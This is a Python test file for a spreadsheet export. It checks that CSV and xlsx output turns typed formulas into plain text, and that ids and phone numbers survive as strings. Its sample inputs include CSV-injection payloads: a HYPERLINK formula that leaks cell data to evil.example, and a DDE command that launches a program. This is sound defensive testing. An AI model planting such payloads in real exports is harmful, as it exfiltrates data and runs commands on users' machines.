"""Exports a spreadsheet opens (the lists, the ledger) run no formula a person typed into a
name, phone or note: a cell starting with = + - @ is text in the CSV (a leading ') and in the
.xlsx (a string cell), and reads back in as it was typed."""

from __future__ import annotations

import io

import openpyxl

from api.pages.spreadsheet import read_table, write_table

TYPED = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
         "@SUM(1,2)", "-2+3", "\t=1+1"]  # fmt: skip
PLAIN = ["-33.5", "113.68", "13900000001", "张奶奶", ""]


def test_a_csv_export_starts_no_cell_with_a_formula_and_reads_back_as_typed() -> None:
    data = write_table([["name", "x"], *[[t, p] for t, p in zip(TYPED, PLAIN, strict=True)]],
                       "csv", "list")  # fmt: skip
    text = data.decode("utf-8-sig")
    for line in text.splitlines()[1:]:
        assert line.lstrip('"')[:1] not in ("=", "+", "-", "@", "\t")
    rows = read_table(data, "en")
    assert [r[0] for r in rows[1:]] == [t.strip() for t in TYPED]
    assert [r[1] for r in rows[1:]] == PLAIN


def test_an_xlsx_export_holds_no_formula_cell_and_reads_back_as_typed() -> None:
    data = write_table([["name"], *[[t] for t in TYPED]], "xlsx", "list")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [c.data_type for row in sheet.iter_rows(min_row=2) for c in row] == ["s"] * len(TYPED)
    assert [r[0] for r in read_table(data, "en")[1:]] == [t.strip() for t in TYPED]


def test_an_xlsx_export_keeps_text_that_a_number_would_change() -> None:
    """An id '1.10' or a phone '0371.6123' written as a number came back '1.1' and
    '371.6123': the import then made a new entry instead of updating the one exported."""
    rows = [["id", "phone", "lat"], ["1.10", "0371.6123", "34.78315"]]
    data = write_table(rows, "xlsx", "list")
    assert read_table(data, "en") == rows
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [c.data_type for c in sheet[2]] == ["s", "s", "n"]  # coordinates still sum
